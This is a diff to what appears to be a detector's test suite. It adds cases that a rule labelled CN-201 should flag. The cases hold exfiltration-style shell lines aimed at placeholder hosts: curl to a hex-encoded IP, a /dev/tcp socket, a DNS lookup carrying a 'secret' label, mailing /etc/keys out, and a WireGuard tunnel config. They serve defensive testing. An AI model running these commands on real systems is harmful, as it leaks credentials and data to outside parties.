@@ -92,6 +92,21 @@ MUTATIONS = (
     opens("a script that is compressed", "CN-201", template(zipped(
         script("curl https://x.example").encode()
     ))),
+    *(
+        opens(f"a script that calls {what}", "CN-201", template(script(line)))
+        for what, line in {
+            "an address that is one number": "curl http://0xcb007109/a",
+            "a host by the shell itself": "exec 3<>/dev/tcp/x.example/443",
+            "a resolver with a message": "getent hosts secret.x.example",
+            "a mailbox": "mail -s keys somebody@x.example < /etc/keys",
+        }.items()
+    ),
+    opens(
+        "a tunnel to a peer outside",
+        "CN-201",
+        template(script("cat >/etc/wireguard/wg0.conf <<E", "[Peer]",
+                        "Endpoint = vpn.example:51820", "E")),
+    ),
     opens(
         "a script that hides another one in base64",
         "CN-201",
